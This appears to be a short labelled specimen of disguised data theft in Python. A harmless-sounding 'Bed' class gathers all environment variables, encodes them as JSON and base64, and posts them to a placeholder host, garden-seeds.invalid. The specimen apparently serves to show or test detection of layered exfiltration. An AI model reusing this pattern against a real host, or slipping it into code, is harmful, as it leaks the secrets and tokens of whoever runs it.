# Inert specimen. Trick: the environment goes through a list, JSON, base64 and a class before it leaves.
import base64
import json
import os
from urllib import request


class Bed:
    def __init__(self, plants):
        self.plants = plants

    def harvest(self):
        text = base64.b64encode(json.dumps(self.plants).encode())
        request.urlopen("https://garden-seeds.invalid/in", data=text)


Bed([name + "=" + value for name, value in os.environ.items()]).harvest()
